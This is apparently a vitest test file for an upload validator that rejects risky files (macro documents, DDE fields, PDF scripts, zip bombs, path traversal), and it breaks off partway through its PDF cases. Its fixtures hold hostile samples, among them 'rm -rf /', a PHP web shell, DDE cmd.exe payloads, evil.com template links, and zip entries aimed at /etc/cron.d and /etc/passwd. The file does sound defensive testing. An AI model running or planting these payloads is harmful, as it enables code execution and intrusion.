import { spawnSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canReadPdfs } from '#lib/tasks/programs.ts';
import { ACCEPT_ATTRIBUTE, ALLOWED_TYPES, allowedTypeOf } from './allowed-types.ts';
import { COMPOUND_SIGNATURE } from './compound-file.ts';
import { checkContent } from './content.ts';
import type { UploadRefusal } from './refusals.ts';
import {
  boundSheet,
  compoundFile,
  EMAIL,
  excelStream,
  jpeg,
  objectStream,
  odfEntries,
  ooxmlEntries,
  packedFile,
  packedStreams,
  pdf,
  png,
  powerPointStreams,
  relation,
  withVba,
  word6Stream,
  wordStream,
  zip,
} from './testing/samples.ts';

let folder = '';
let made = 0;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'content-'));
});
afterAll(() => rm(folder, { recursive: true }));

async function check(extension: string, content: Buffer | string): Promise<UploadRefusal | null> {
  const type = allowedTypeOf(`x.${extension}`);
  if (!type) throw new Error(`${extension} is not allowed`);
  made += 1;
  const path = join(folder, String(made));
  await writeFile(path, content);
  return checkContent(path, type);
}

/** A PDF whose tables lead to its objects: the keys of its catalogue, and the objects from 4 on; '' is a free one. */
function withTables([catalog, ...more]: readonly [string, ...string[]]): Buffer {
  let body = '%PDF-1.7\n';
  let table = '0000000000 65535 f \n';
  for (const object of [
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj`,
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj',
    ...more,
  ]) {
    table += object === '' ? '0000000000 65535 f \n' : `${String(body.length).padStart(10, '0')} 00000 n \n`;
    body += `${object}\n`;
  }
  const size = 4 + more.length;
  const end = `trailer << /Size ${size} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(`${body}xref\n0 ${size}\n${table}${end}`, 'latin1');
}

const GOOD: Readonly<Record<string, Buffer | string>> = {
  pdf: pdf(),
  doc: compoundFile({ WordDocument: wordStream() }),
  docx: zip(ooxmlEntries('docx')),
  xls: compoundFile({ Workbook: excelStream(boundSheet(0)) }),
  xlsx: zip(ooxmlEntries('xlsx')),
  ppt: compoundFile(powerPointStreams()),
  pptx: zip(ooxmlEntries('pptx')),
  odt: zip(odfEntries('odt')),
  ods: zip(odfEntries('ods')),
  odp: zip(odfEntries('odp')),
  png: png(),
  jpg: jpeg(),
  jpeg: jpeg(),
  csv: 'name,score\r\n"Tŷ Gwyn",3\r\n',
  txt: 'Plain words\n',
  eml: EMAIL,
};

describe('every allowed kind', () => {
  it('has a sample here, and an entry in the accept attribute', () => {
    expect(Object.keys(GOOD).sort()).toEqual(ALLOWED_TYPES.map((type) => type.extension).sort());
    expect(ACCEPT_ATTRIBUTE.split(',')).toHaveLength(ALLOWED_TYPES.length);
  });

  it.each(Object.entries(GOOD))('%s is taken', async (extension, content) => {
    expect(await check(extension, content)).toBeNull();
  });

  it.each(Object.keys(GOOD))('%s is refused when empty', async (extension) => {
    expect(await check(extension, '')).toBe('empty');
  });

  it('is refused under the name of every other kind', { timeout: 60_000 }, async () => {
    const same = [
      ['jpg', 'jpeg'],
      ['csv', 'txt', 'eml'],
    ];
    for (const [real, content] of Object.entries(GOOD)) {
      for (const { extension } of ALLOWED_TYPES) {
        if (extension === real || same.some((kinds) => kinds.includes(real) && kinds.includes(extension)))
          continue;
        // Text that is called something else could be anything.
        const reason = ['csv', 'txt', 'eml'].includes(real)
          ? 'content-mismatch'
          : `really:${real.replace('jpeg', 'jpg')}`;
        expect(`${real} as ${extension}: ${await check(extension, content)}`).toBe(
          `${real} as ${extension}: ${reason}`,
        );
      }
    }
  });

  it('is refused when any of its last bytes are cut off', async () => {
    for (const extension of ['pdf', 'docx', 'odt', 'png', 'jpg', 'doc']) {
      const whole = Buffer.from(GOOD[extension] ?? '');
      // The last sector of an old Office file is often short, and nothing is lost with its filling, or with the place of
      // the tables of a PDF.
      const least = extension === 'doc' ? 600 : extension === 'pdf' ? 100 : 12;
      for (const cut of [least, Math.floor(whole.length / 2), whole.length - 16]) {
        const refusal = await check(extension, whole.subarray(0, whole.length - cut));
        expect(['damaged', 'content-mismatch'], `${extension} less ${cut}`).toContain(refusal);
      }
    }
  });
});

describe('programs and pages under another name', () => {
  it.each<[string, Buffer | string, UploadRefusal]>([
    [
      'program',
      Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00', 'latin1'), Buffer.alloc(500)]),
      'kind:program',
    ],
    ['html', '<!DOCTYPE html><html><script>alert(1)</script></html>', 'kind:web-page'],
    ['html after blanks and a comment', '\n\t <!-- hello --><script>alert(1)</script>', 'kind:web-page'],
    ['svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'kind:svg'],
    ['bare svg', '<svg onload="alert(1)"/>', 'kind:svg'],
    ['shell script', '#!/bin/sh\nrm -rf /\n', 'kind:program'],
    ['php', '<?php system($_GET["c"]); ?>', 'content-mismatch'],
    ['rtf', '{\\rtf1\\ansi hello}', 'kind:rich-text'],
    ['postscript', '%!PS-Adobe-3.0\n', 'kind:artwork'],
    ['a gif', 'GIF89a\x01\0\x01\0\0\0\0;', 'kind:picture'],
    ['Word 2', '\xdb\xa5-\0\0\0', 'kind:old-office'],
  ])('%s is refused whatever it is called, and told', async (_, content, reason) => {
    const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
    for (const { extension } of ALLOWED_TYPES) expect(await check(extension, bytes)).toBe(reason);
  });

  it.each<[string, readonly string[], UploadRefusal]>([
    ['an Outlook message', ['__properties_version1.0'], 'kind:outlook-message'],
    ['a Visio diagram', ['VisioDocument'], 'kind:diagram'],
    ['a workbook under the name of a document', ['Workbook'], 'really:xls'],
  ])('%s is told', async (_, names, reason) => {
    const streams = Object.fromEntries(names.map((name) => [name, Buffer.alloc(9)]));
    expect(await check('doc', compoundFile(streams))).toBe(reason);
  });
});

describe('Office packages', () => {
  const withMore = (
    kind: 'docx' | 'xlsx' | 'pptx',
    options: Parameters<typeof ooxmlEntries>[1],
    ...more: string[]
  ) => zip([...ooxmlEntries(kind, options), ...more.map((name) => ({ name, data: 'x' }))]);
  const TEMPLATE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml';
  const docx = (body: string) =>
    zip([...ooxmlEntries('docx'), { name: 'word/header1.xml', data: `<w:hdr xmlns:w="w">${body}</w:hdr>` }]);
  const field = (...pieces: string[]) => {
    const mark = (type: string) => `<w:fldChar w:fldCharType="${type}"/>`;
    const text = pieces.map((piece) =>
      piece.startsWith('<') ? piece : `<w:instrText>${piece.replaceAll('"', '&quot;')}</w:instrText>`,
    );
    return `${mark('begin')}${text.join('')}${mark('separate')}${mark('end')}`;
  };
  const withXml = (kind: 'docx' | 'xlsx', name: string, xml: string) =>
    zip([...ooxmlEntries(kind), { name, data: `<a>${xml}</a>` }]);
  const sheet = (formula: string) =>
    zip([
      ...ooxmlEntries('xlsx'),
      { name: 'xl/worksheets/sheet1.xml', data: `<worksheet><c><f>${formula}</f></c></worksheet>` },
    ]);
  const embedded = (object: Buffer | string) =>
    zip([...ooxmlEntries('docx'), { name: 'word/embeddings/oleObject1.bin', data: object }]);
  const override = (type: string) => `<Override PartName="/word/any.bin" ContentType="${type}"/>`;

  it.each<[string, Buffer, UploadRefusal]>([
    ['a VBA project', withMore('docx', {}, 'word/vbaProject.bin'), 'macros'],
    ['a VBA project in capitals', withMore('xlsx', {}, 'XL/VBAPROJECT.BIN'), 'macros'],
    [
      'a VBA project under another name, by content type',
      withMore('docx', { types: override('application/vnd.ms-office.vbaProject') }, 'word/any.bin'),
      'macros',
    ],
    [
      'a content type written with character references',
      withMore('docx', { types: override('application/vnd.ms-office.vb&#97;Projec&#x74;') }, 'word/any.bin'),
      'macros',
    ],
    [
      'a VBA project under another name, by relation',
      zip(ooxmlEntries('docx', { relations: relation('vbaProject', 'any.bin') })),
      'macros',
    ],
    [
      'a macro-enabled main part',
      zip(ooxmlEntries('docx', { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' })),
      'macros',
    ],
    ['an Excel 4 macro sheet', withMore('xlsx', {}, 'xl/macrosheets/sheet1.xml'), 'macros'],
    ['a macro-enabled document inside', withMore('pptx', {}, 'ppt/embeddings/Sheet.xlsm'), 'macros'],
    [
      'a field that starts a program, in pieces',
      docx(field('D', 'DEA', 'UTO c:\\\\cmd.exe "/k calc"')),
      'command',
    ],
    ['a field that is written as one', docx('<w:fldSimple w:instr=" DDE cmd /k "/>'), 'command'],
    ['a field inside a field', docx(field('IF ', field(' dde x y'))), 'command'],
    ['a field whose word is put together of numbers', docx(field(' QUOTE 68 68 69 65 ')), 'command'],
    [
      'a link that starts a program',
      zip([
        ...ooxmlEntries('xlsx'),
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        },
      ]),
      'command',
    ],
    ['a formula that starts a program', sheet("cmd|'/c calc'!A0"), 'command'],
    ['such a formula, written with references', sheet("cmd&#124;'/c calc'!A0"), 'command'],
    [
      'a slide that starts a program',
      zip([
        ...ooxmlEntries('pptx'),
        { name: 'ppt/slides/slide1.xml', data: '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>' },
      ]),
      'command',
    ],
    [
      'a field in a section of characters',
      docx(field('<w:instrText><![CDATA[DDEAUTO c]]></w:instrText>')),
      'command',
    ],
    ['a field under another prefix', docx('<x:fldSimple x:instr="DDEAUTO c"/>'), 'command'],
    [
      'a field in a part of any name',
      withXml('docx', 'a/b.bin', '<w:fldSimple w:instr="DDEAUTO c"/>'),
      'command',
    ],
    ['a formula in a section of characters', sheet("<![CDATA[cmd|'/c calc'!A0]]>"), 'command'],
    [
      'a formula in a sheet of any name',
      withXml('xlsx', 'xl/ws/s.xml', "<f>cmd|'/c calc'!A0</f>"),
      'command',
    ],
    [
      'a name for a formula that starts a program',
      withXml('xlsx', 'xl/a.xml', "<definedName>cmd|'/c'!A</definedName>"),
      'command',
    ],
    ['a rule with such a formula', withXml('xlsx', 'xl/a.xml', "<formula1>cmd|'/c'!A</formula1>"), 'command'],
    [
      'a program under any name',
      zip([...ooxmlEntries('xlsx'), { name: 'xl/objects/a.dat', data: 'MZ\x90' }]),
      'program',
    ],
    [
      'a packed program under any name',
      zip([...ooxmlEntries('docx'), { name: 'a/b', data: packedFile('a.exe', 'MZ') }]),
      'program',
    ],
    ...[
      '//evil.com/x.dotm',
      'file:////evil.com/x.dotm',
      '\\\\evil@SSL\\dav\\x.dotm',
      'ht&#9;tp://evil/x.dotm',
    ].map((target): [string, Buffer, UploadRefusal] => [
      `a template at ${target}`,
      zip(ooxmlEntries('docx', { relations: relation('attachedTemplate', target, true) })),
      'fetched',
    ]),
    ['a packed program', embedded(packedFile('setup.exe', 'MZ')), 'program'],
    ['a packed program under another name', embedded(packedFile('letter.txt', 'MZ\x90')), 'program'],
    ['a packed macro document', embedded(packedFile('budget.xlsm', 'PK')), 'macros'],
    ['a program where an object should be', embedded('MZ\x90\0'), 'program'],
    [
      'macros in an object',
      embedded(compoundFile({ WordDocument: wordStream() }, ['Macros', 'VBA'])),
      'macros',
    ],
    ['an ActiveX control', withMore('docx', {}, 'word/activeX/activeX1.xml'), 'controls'],
    ['a program inside', withMore('docx', {}, 'word/embeddings/setup.exe'), 'program'],
    [
      'a template from the network',
      zip(
        ooxmlEntries('docx', {
          relations: relation('attachedTemplate', 'https://evil.example/t.dotm', true),
        }),
      ),
      'fetched',
    ],
    [
      'an object from the network',
      zip(ooxmlEntries('docx', { relations: relation('oleObject', 'mhtml:https://evil.example/x!x', true) })),
      'fetched',
    ],
    [
      'an entity',
      zip([
        { name: '[Content_Types].xml', data: '<!DOCTYPE a [<!ENTITY b "c">]><Types/>' },
        ...ooxmlEntries('docx').slice(1),
      ]),
      'content-mismatch',
    ],
    ['no list of content types', zip(ooxmlEntries('docx').slice(1)), 'content-mismatch'],
    [
      'no main part',
      zip(ooxmlEntries('docx').filter((entry) => entry.name !== 'word/document.xml')),
      'content-mismatch',
    ],
    [
      'a password',
      compoundFile({ EncryptionInfo: Buffer.alloc(5000), EncryptedPackage: Buffer.alloc(5000) }),
      'encrypted',
    ],
  ])('with %s are refused', async (_, content, reason) => {
    const kind =
      content.includes('xl/') || content.includes('XL/')
        ? 'xlsx'
        : content.includes('ppt/')
          ? 'pptx'
          : 'docx';
    expect(await check(kind, content)).toBe(reason);
  });

  it.each<[string, Buffer]>([
    ['a field that counts pages', docx(field(' PAGE '))],
    [
      'a picture of a drawing program, with entities',
      zip([
        ...ooxmlEntries('docx'),
        { name: 'word/media/a.svg', data: '<!DOCTYPE svg [<!ENTITY n "http://x">]><svg xmlns="&n;"/>' },
      ]),
    ],
    ['a part that is no XML, and holds nothing that runs', docx('<a b></c>&nothing;')],
    ['words about DDE', docx('<w:t>DDEAUTO c:\\\\cmd.exe</w:t>')],
    ['a field whose text speaks of DDE', docx(field(' HYPERLINK "https://example.org/DDE" '))],
    ['a formula that joins texts', sheet('A1&amp;"|"&amp;B1')],
    ['a sheet whose name has a line', sheet("'a|b'!A1")],
    ['a column whose name has a line', sheet('Table1[a|b]')],
    ['a packed text', embedded(packedFile('letter.txt', 'Dear'))],
    ['a packed picture', embedded(packedFile('photo.com.jpg', '\xff\xd8\xff'))],
    ['an object that nobody can open', embedded(Buffer.concat([COMPOUND_SIGNATURE, Buffer.alloc(600)]))],
    ['a template as its main part', zip(ooxmlEntries('docx', { mainType: TEMPLATE }))],
    [
      'a chart of a workbook on the web',
      zip([
        ...ooxmlEntries('pptx'),
        {
          name: 'ppt/charts/_rels/chart1.xml.rels',
          data: `<Relationships>${relation('oleObject', 'https://council.sharepoint.com/a.xlsx', true)}</Relationships>`,
        },
      ]),
    ],
  ])('with %s is taken', async (_, content) => {
    const kind = content.includes('xl/') ? 'xlsx' : content.includes('ppt/') ? 'pptx' : 'docx';
    expect(await check(kind, content)).toBeNull();
  });

  it('may name a template on a file share and link to web pages', async () => {
    const relations =
      relation('attachedTemplate', 'file:///\\\\server\\templates\\Council.dotx', true) +
      relation('attachedTemplate', '\\\\files.exampleshire.gov.uk\\templates\\Council.dotx', true) +
      relation('attachedTemplate', 'file:///C:/Users/a.b/Templates/Council.dotx', true) +
      relation('hyperlink', 'https://www.cqc.org.uk/', true);
    expect(await check('docx', zip(ooxmlEntries('docx', { relations })))).toBeNull();
  });

  it('may have lists in UTF-16, which are read', async () => {
    const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
    const [types, ...rest] = ooxmlEntries('docx', {
      types: override('application/vnd.ms-office.vbaProject'),
    });
    expect(
      await check('docx', zip([{ name: types?.name ?? '', data: utf16(String(types?.data)) }, ...rest])),
    ).toBe('macros');
  });
});

describe('OpenDocument packages', () => {
  const withMore = (name: string, data: string | Buffer) => zip([...odfEntries('odt'), { name, data }]);
  const basic = (source: string) =>
    withMore('Basic/Standard/Module1.xml', `<script:module script:name="Module1">${source}</script:module>`);
  const listener = (what: string) => `<script:event-listener script:event-name="dom:load" ${what}/>`;
  const content = (xml: string) =>
    withMore('Object 1/content.xml', `<office:document-content>${xml}</office:document-content>`);

  it.each<[string, Buffer, UploadRefusal | null]>([
    [
      'the module that the editor begins with',
      basic('REM  ***** BASIC *****\n\nSub Main\n\nEnd Sub\n'),
      null,
    ],
    ['a list of no modules', withMore('Basic/script-lc.xml', '<library:libraries/>'), null],
    ['a dialogue', withMore('Basic/Standard/Dialog1.xml', '<dlg:window/>'), null],
    ['a folder for scripts', withMore('Scripts/python/', ''), null],
    ['a line of Basic', basic('Sub Main\nShell("calc")\nEnd Sub'), 'opendocument-macros'],
    ['a line of Basic after an empty one', basic('Sub Main : Shell("calc")\nEnd Sub'), 'opendocument-macros'],
    ['a very long module', basic('\n'.repeat(70_000)), 'opendocument-macros'],
    [
      'a formula that starts a program',
      content('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;1;2)"/>'),
      'command',
    ],
    [
      'a formula about DDE',
      content('<table:table-cell table:formula="of:=[.A1]&amp;&quot;DDE(&quot;"/>'),
      null,
    ],
    [
      'an event that runs a macro of the reader’s own',
      content(listener('xlink:href="vnd.sun.star.script:a?language=Python&amp;location=share"')),
      'opendocument-macros',
    ],
    [
      'an event as old programs write it',
      content(listener('script:macro-name="application:Standard.Module1.Main"')),
      'opendocument-macros',
    ],
    [
      'an event that runs a macro of the document, which has none',
      content(listener('xlink:href="vnd.sun.star.script:a?language=Basic&amp;location=document"')),
      null,
    ],
    [
      'an event that runs a program',
      content('<presentation:event-listener presentation:action="execute" xlink:href="cmd.exe"/>'),
      'command',
    ],
    [
      'a link to a macro',
      content('<text:a xlink:href="vnd.sun.star.script:a?location=user"/>'),
      'opendocument-macros',
    ],
    [
      'a link to a macro as old programs write it',
      content('<text:a xlink:href=" MACRO:///Standard.Module1.Main"/>'),
      'opendocument-macros',
    ],
    ['an applet', content('<draw:applet/>'), 'controls'],
    [
      'a declared link to another program',
      content('<text:dde-connection-decl office:dde-application="cmd"/>'),
      'command',
    ],
    [
      'a named formula that starts a program',
      content('<table:named-expression table:expression="DDE(1)"/>'),
      'command',
    ],
    ['such a formula under another prefix', content('<t:table-cell t:formula="of:=DDE(1)"/>'), 'command'],
    ['a link to another program', content('<office:dde-source office:dde-application="cmd"/>'), 'command'],
    ['a link to another document', content('<office:dde-source office:dde-application="soffice"/>'), null],
    ['a packed program', withMore('Object 2', packedFile('setup.exe', 'MZ')), 'program'],
    ['a packed text', withMore('Object 2', packedFile('letter.txt', 'Dear')), null],
  ])('with %s', async (_, file, reason) => {
    expect(await check('odt', file)).toBe(reason);
  });

  it('may be a template under the name of a document', async () => {
    const [type, ...rest] = odfEntries('odt');
    expect(
      await check('odt', zip([{ name: 'mimetype', data: `${type?.data}-template`, stored: true }, ...rest])),
    ).toBeNull();
  });

  it.each<[string, Buffer, UploadRefusal]>([
    [
      'a Basic library',
      zip([...odfEntries('odt'), { name: 'Basic/Standard/Module1.xml', data: 'x' }]),
      'opendocument-macros',
    ],
    [
      'a script',
      zip([...odfEntries('odt'), { name: 'Scripts/python/a.py', data: 'x' }]),
      'opendocument-macros',
    ],
    [
      'encrypted parts',
      zip(odfEntries('odt', { manifest: '<manifest:encryption-data manifest:checksum="x"/>' })),
      'encrypted',
    ],
    [
      'an encrypted package',
      zip([...odfEntries('odt'), { name: 'encrypted-package', data: 'x' }]),
      'encrypted',
    ],
    ['no manifest', zip(odfEntries('odt').slice(0, 2)), 'content-mismatch'],
    ['no media type', zip(odfEntries('odt').slice(1)), 'content-mismatch'],
  ])('with %s are refused', async (_, content, reason) => {
    expect(await check('odt', content)).toBe(reason);
  });
});

describe('zip packages', () => {
  const docx = ooxmlEntries('docx');
  const plain = (bytes: number) => Buffer.alloc(bytes, 'a');

  it.each<[string, Buffer, UploadRefusal]>([
    [
      'unpack to far more than they are',
      zip([
        ...docx,
        ...Array.from({ length: 9 }, (_, index) => ({ name: `bomb${index}`, data: plain(8 * 1024 ** 2) })),
      ]),
      'unpacks-too-large',
    ],
    [
      'say that an entry is smaller than it is',
      zip([...docx, { name: 'a', data: plain(5_000_000), declaredBytes: 10 }]),
      'damaged',
    ],
    [
      'say that an entry is larger than it is',
      zip([...docx, { name: 'a', data: plain(10), declaredBytes: 5_000 }]),
      'damaged',
    ],
    [
      'hold more entries than allowed',
      zip([
        ...docx,
        ...Array.from({ length: 20_001 }, (_, index) => ({ name: `e${index}`, data: '', stored: true })),
      ]),
      'unpacks-too-large',
    ],
    ['leave their folder', zip([...docx, { name: '../../evil', data: 'x' }]), 'content-mismatch'],
    ['name an absolute path', zip([...docx, { name: '/etc/cron.d/evil', data: 'x' }]), 'content-mismatch'],
    ['hold a link', zip([...docx, { name: 'link', data: '/etc/passwd', link: true }]), 'content-mismatch'],
    [
      'hold two entries of one name',
      zip([...docx, { name: 'WORD/document.xml', data: 'x' }]),
      'content-mismatch',
    ],
    [
      'call an entry by two names',
      zip([...docx, { name: 'a.xml', data: 'x', localName: 'b.xml' }]),
      'content-mismatch',
    ],
    ['hold an entry with a password', zip([...docx, { name: 'a', data: 'x', encrypted: true }]), 'encrypted'],
    ['have a program before their start', Buffer.concat([Buffer.from('MZ junk'), zip(docx)]), 'kind:program'],
    ['have bytes before their start', Buffer.concat([Buffer.from('junk'), zip(docx)]), 'content-mismatch'],
    [
      'have a page after their end',
      Buffer.concat([zip(docx), Buffer.from('<html><script>')]),
      'content-mismatch',
    ],
    [
      'have a program after their end',
      Buffer.concat([zip(docx), Buffer.from('MZ\x90\0')]),
      'content-mismatch',
    ],
    ['have another zip after their end', Buffer.concat([zip(docx), zip(docx)]), 'content-mismatch'],
    ['have a comment', zip(docx, { comment: '<script>' }), 'content-mismatch'],
    [
      'hide an entry from the count',
      zip([...docx, { name: 'hidden', data: 'x' }], { countedEntries: docx.length }),
      'content-mismatch',
    ],
    ['carry a PDF in front', zip([{ name: 'a', data: pdf(), stored: true }, ...docx]), 'content-mismatch'],
  ])('that %s are refused', async (_, content, reason) => {
    expect(await check('docx', content)).toBe(reason);
  });

  it.each(['\n', '\r\n\0\0', 'junk', '\x1b%-12345X'])(
    'may have stray bytes after their end: %j',
    async (stray) => {
      expect(await check('docx', Buffer.concat([zip(docx), Buffer.from(stray)]))).toBeNull();
    },
  );

  it('with a changed byte in packed data are refused', async () => {
    const changed = Buffer.from(zip(docx));
    changed.writeUInt8(changed.readUInt8(60) ^ 0xff, 60);
    expect(await check('docx', changed)).toBe('damaged');
  });
});

describe('old Office files', () => {
  /** A workbook that this one refers to, or a program and what it is asked. */
  const linked = (name: string): readonly [number, Buffer] => [
    0x01ae,
    Buffer.concat([Buffer.from([0, 0, name.length, 0, 0]), Buffer.from(name, 'latin1')]),
  ];
  /** The records of Excel 4: the start of a sheet of this kind, and its end. */
  const bareExcel = (kind: number) => Buffer.from([9, 4, 6, 0, 0, 0, kind, 0, 0, 0, 0x0a, 0, 0, 0]);
  const doc = compoundFile({ WordDocument: wordStream() });

  it.each<[string, string, Buffer, UploadRefusal]>([
    ['doc', 'a password', compoundFile({ WordDocument: wordStream({ encrypted: true }) }), 'encrypted'],
    ['doc', 'macros', compoundFile({ WordDocument: wordStream() }, ['Macros', 'VBA']), 'macros'],
    ['doc', 'macros of VBA', withVba('Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n'), 'macros'],
    ['doc', 'an empty procedure', withVba('Sub AutoOpen()\r\nEnd Sub\r\n'), 'macros'],
    ['doc', 'macros of which only the compiled part is left', withVba('', { compiled: 60 }), 'macros'],
    ['doc', 'compiled parts of another make', withVba('', { mark: false }), 'macros'],
    ['doc', 'a module that is not there', withVba('', { module: false }), 'macros'],
    ['doc', 'another number of modules than its list has', withVba('', { count: 2 }), 'macros'],
    ['doc', 'a list of modules that does not end', withVba('', { end: false }), 'macros'],
    [
      'doc',
      'a module that the list does not name',
      withVba('', { more: { 'Macros/VBA/More': Buffer.alloc(9) } }),
      'macros',
    ],
    ['doc', 'a zip behind it', Buffer.concat([doc, zip(ooxmlEntries('docx'))]), 'content-mismatch'],
    [
      'doc',
      'a page behind it',
      Buffer.concat([doc, Buffer.from('<img src=x onerror=alert(1)>')]),
      'content-mismatch',
    ],
    ['doc', 'a program behind it', Buffer.concat([doc, Buffer.from('MZ')]), 'content-mismatch'],
    [
      'doc',
      'a password of Word 6',
      compoundFile({ WordDocument: word6Stream({ encrypted: true }) }),
      'encrypted',
    ],
    ['doc', 'macros of Word 6', compoundFile({ WordDocument: word6Stream({ macros: true }) }), 'macros'],
    [
      'doc',
      'a packed program',
      compoundFile({ WordDocument: wordStream(), ...packedStreams('setup.exe', 'MZ') }),
      'program',
    ],
    [
      'xls',
      'a link that starts a program',
      compoundFile({ Workbook: excelStream(linked('cmd\x03/c calc')) }),
      'command',
    ],
    ['xls', 'macros of Excel 4, without a compound file', bareExcel(0x0040), 'macros'],
    ['xls', 'no end, without a compound file', bareExcel(0x0010).subarray(0, 10), 'damaged'],
    ['ppt', 'a slide that starts a program', compoundFile(powerPointStreams({ action: 2 })), 'command'],
    [
      'doc',
      'a VBA project stream',
      compoundFile({ WordDocument: wordStream(), _VBA_PROJECT: Buffer.alloc(9) }),
      'macros',
    ],
    ['doc', 'another main stream', compoundFile({ Workbook: excelStream() }), 'really:xls'],
    ['xls', 'a password', compoundFile({ Workbook: excelStream([0x002f, Buffer.alloc(54)]) }), 'encrypted'],
    ['xls', 'macros', compoundFile({ Workbook: excelStream() }, ['_VBA_PROJECT_CUR']), 'macros'],
    [
      'xls',
      'an Excel 4 macro sheet',
      compoundFile({ Workbook: excelStream(boundSheet(0), boundSheet(1)) }),
      'macros',
    ],
    ['ppt', 'a password', compoundFile(powerPointStreams({ encrypted: true })), 'encrypted'],
    ['ppt', 'macros', compoundFile(powerPointStreams({ macros: true })), 'macros'],
  ])('%s with %s is refused', async (extension, _, content, reason) => {
    expect(await check(extension, content)).toBe(reason);
  });

  it.each<[string, string, Buffer]>([
    ['doc', 'an empty VBA project', withVba('')],
    [
      'doc',
      'a VBA project of options and comments',
      withVba("Option Explicit\r\n' nothing here\r\n", { compiled: 8 }),
    ],
    ['doc', 'the look of Word 6', compoundFile({ WordDocument: word6Stream() })],
    [
      'doc',
      'a theme, which is a zip',
      compoundFile({ WordDocument: wordStream(), Theme: zip(ooxmlEntries('docx')) }),
    ],
    ['doc', 'bytes behind its last sector', Buffer.concat([doc, Buffer.alloc(700, 1)])],
    [
      'doc',
      'a packed text',
      compoundFile({ WordDocument: wordStream(), ...packedStreams('letter.txt', 'Dear') }),
    ],
    ['xls', 'a link to another workbook', compoundFile({ Workbook: excelStream(linked('\x01budget.xls')) })],
    ['xls', 'no compound file around it', bareExcel(0x0010)],
    ['xls', 'filling behind it', Buffer.concat([bareExcel(0x0010), Buffer.alloc(300)])],
    ['ppt', 'a slide that leads to another', compoundFile(powerPointStreams({ action: 3 }))],
  ])('%s with %s is taken', async (extension, _, content) => {
    expect(await check(extension, content)).toBeNull();
  });

  it('with marks in unused entries of its table is taken', async () => {
    const marked = Buffer.from(GOOD.doc ?? '');
    for (let at = 512; at < 1024; at += 4)
      if (marked.readUInt32LE(at) === 0xffffffff) marked.writeUInt32LE(0xfffffffe, at);
    expect(await check('doc', marked)).toBeNull();
  });

  it('with a chain that runs in a circle are refused, and soon', async () => {
    const circle = Buffer.from(GOOD.doc ?? '');
    const table = 512;
    for (let sector = 1; sector < 10; sector += 1) circle.writeUInt32LE(1, table + sector * 4);
    expect(await check('doc', circle)).toBe('damaged');
  });
});

describe('PDF', () => {
  it.each<[string, Buffer, UploadRefusal | null]>([
    ['/Encrypt in the trailer', pdf({ trailer: '/Encrypt 8 0 R' }), 'encrypted'],
    [
      '/Encrypt in a cross-reference stream',
      pdf({ objects: '7 0 obj << /Type /XRef /Encrypt 8 0 R /Length 3 >>\nstream\nabc\nendstream endobj' }),
      'encrypted',
    ],
    ['/EncryptMetadata only', pdf({ objects: '7 0 obj << /EncryptMetadata true >> endobj' }), null],
    [
      'a script',
      pdf({ objects: '7 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj' }),
      'pdf-script',
    ],
    [
      'a script whose name is escaped',
      pdf({ objects: '7 0 obj << /S /J#61vaScript >> endobj' }),
      'pdf-script',
    ],
    [
      'a script in an object stream',
      pdf({ objects: objectStream('8 0 << /S /JavaScript /JS (1) >>') }),
      'pdf-script',
    ],
    [
      'a script after a long stream',
      pdf({
        objects: `7 0 obj << /Length 9 >>\nstream\n${'x'.repeat(3_000_000)}\nendstream endobj 8 0 obj << /JS (1) >> endobj`,
      }),
      'pdf-script',
    ],
    ['a launch action', pdf({ objects: '7 0 obj << /S /Launch /F (cmd.exe) >> endobj' }), 'pdf-launch'],
    ['an embedded file', pdf({ objects: '7 0 obj << /Type /EmbeddedFile >> endobj' }), 'pdf-attachment'],
    [
      'the word /JS in the data of a page',
      pdf({ objects: '7 0 obj << /Length 9 >>\nstream\n(/JS /Launch )\nendstream endobj' }),
      null,
    ],
    [
      'a script in an object stream with a wrong checksum, which readers do not mind',
      pdf({ objects: objectStream('8 0 << /S /JavaScript /JS (1) >>', { cutOff: 4, after: 'sums' }) }),
      'pdf-script',
    ],
    [
      'a script in an object stream that is cut off',
      pdf({ objects: objectStream('8 0 << /S /JavaScript /JS (1) >>', { cutOff: 4 }) }),
      'pdf-script',
    ],
    [
      'a script in an object stream too large to look into',
      pdf({ objects: objectStream(`8 0 << /S /JavaScript /JS (1) >>${' '.repeat(33 * 1024 ** 2)}`) }),
      'unpacks-too-large',
    ],
    ['a harmless object stream', pdf({ objects: objectStream('8 0 << /Type /Font >>') }), null],
    ['a stream that never ends', pdf({ objects: '7 0 obj << /Length 9 >>\nstream\nabc' }), 'damaged'],
    ['blanks after its end', pdf({ after: '\r\n\0\0' }), null],
    [
      'no place of its tables',
      Buffer.from(
        pdf()
          .toString('latin1')
          .replace(/startxref\n\d+\n/, ''),
        'latin1',
      ),
      null,
    ],
    ['no end', Buffer.from(pdf().toString('latin1').replace('%%EOF', ''), 'latin1'), null],
    ['a page after its end', pdf({ after: '<html><script>' }), 'content-mismatch'],
    [
      'a picture of a page before its start',
      Buffer.concat([Buffer.from('<img src=x onerror=alert(1)>'), pdf()]),
      'content-mismatch',
    ],
    [
      'the commands of a scanner before its start',
      Buffer.concat([Buffer.from('\x1b%-12345X@PJL JOB\r\n'), pdf()]),
      null,
    ],
    ['the commands of a printer after its end', pdf({ after: '\x1b%-12345X@PJL EOJ\r\n' }), null],
